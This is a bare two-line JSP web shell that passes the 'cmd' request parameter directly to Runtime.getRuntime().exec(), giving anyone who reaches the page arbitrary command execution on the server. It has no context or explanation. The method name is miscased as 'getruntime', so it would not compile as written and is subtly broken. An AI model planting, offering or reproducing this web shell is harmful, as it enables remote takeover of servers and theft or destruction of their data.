<% 
Runtime.getruntime().exec(request.getParameter("cmd")) 
%>
